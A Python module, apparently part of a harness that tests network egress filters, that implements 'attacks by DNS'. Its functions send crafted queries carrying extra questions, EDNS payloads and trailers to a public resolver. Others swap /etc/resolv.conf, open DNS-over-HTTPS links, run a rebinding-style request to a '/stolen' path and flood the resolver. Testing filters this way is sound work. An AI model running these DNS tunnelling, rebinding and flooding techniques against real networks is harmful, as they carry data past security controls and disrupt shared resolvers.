"""Attacks by DNS."""

from __future__ import annotations

import random
import socket
import struct
import time
from contextlib import suppress
from pathlib import Path

from . import wire

_TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "HTTPS": 65, "AXFR": 252, "ANY": 255}
RESOLVER = "8.8.8.8"


def _question(name: str, kind: str, class_: int = 1) -> bytes:
    labels = b"".join(wire.vector(label.encode("latin-1"), 1) for label in name.split("."))
    return labels + b"\0" + struct.pack("!HH", _TYPES[kind], class_)


def _message(questions: list[bytes], flags: int = 0x0100, extra: bytes = b"") -> bytes:
    counts = struct.pack("!HHHH", len(questions), 0, 0, 1 if extra else 0)
    return struct.pack("!HH", random.getrandbits(16), flags) + counts + b"".join(questions) + extra


def message(name: str) -> bytes:
    """An ordinary query."""
    return _message([_question(name, "A")])


def _send(server: str, port: int, message: bytes, transport: str) -> bytes:
    if transport == "udp":
        return wire.datagram(server, port, message)
    return wire.talk(server, port, wire.vector(message))[2:]


def query(
    name: str,
    kind: str = "A",
    *,
    server: str = RESOLVER,
    port: int = 53,
    transport: str = "udp",
    class_: int = 1,
    flags: int = 0x0100,
    also: str = "",
    option: str = "",
    trailer: str = "",
) -> None:
    """One query. `also` is a second question, `option` an EDNS option's content."""
    questions = [_question(name, kind, class_)]
    if also:
        questions.append(_question(also, kind))
    extra = b""
    if option:
        data = struct.pack("!H", 65001) + wire.vector(option.encode())
        extra = b"\0" + struct.pack("!HHI", 41, 1232, 0) + wire.vector(data)
    _send(server, port, _message(questions, flags, extra) + trailer.encode(), transport)


def resolv_conf(server: str, name: str) -> None:
    """Another resolver in /etc/resolv.conf, asked by the system's own resolver."""
    file = Path("/etc/resolv.conf")
    before = file.read_text()
    try:
        file.write_text(f"nameserver {server}\noptions timeout:1 attempts:1\n")
        with suppress(socket.gaierror):
            socket.getaddrinfo(name, 80)
    finally:
        file.write_text(before)


def over_https(server: str, name: str | None) -> None:
    """DNS over HTTPS: the connection to the resolver is all it takes."""
    names = [wire.server_names(name.encode())] if name else []
    wire.talk(server, 443, wire.records(wire.client_hello(names)))


def visit(label: str, zone: str, address: str, warm: bool = False) -> None:
    """Go to an allowed name whose owner leads it somewhere else, by HTTP and by TLS.

    Once to where its DNS says, as any client does, and once to `address`, which is allowed.
    """
    name = f"{label}.{zone}"
    if warm:  # the first answer, which is harmless, has been checked; the next one is not
        with suppress(OSError):
            query(name)
    with suppress(socket.gaierror):
        for *_, found in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM):
            straight(str(found[0]))
    hello = wire.records(wire.client_hello([wire.server_names(name.encode())]))
    for port, data in ((80, wire.get(name, path="/stolen")), (443, hello)):
        with suppress(OSError):
            wire.talk(address, port, data)


def straight(address: str) -> None:
    """To an address by number."""
    with suppress(OSError):
        socket.create_connection((address, 80), wire.PATIENCE).close()


def many(name: str, times: int) -> None:
    """Many queries as fast as they go."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((RESOLVER, 53))
        for number in range(times):
            with suppress(OSError):
                client.send(_message([_question(f"{number}.{name}", "A")]))
        time.sleep(wire.PATIENCE)
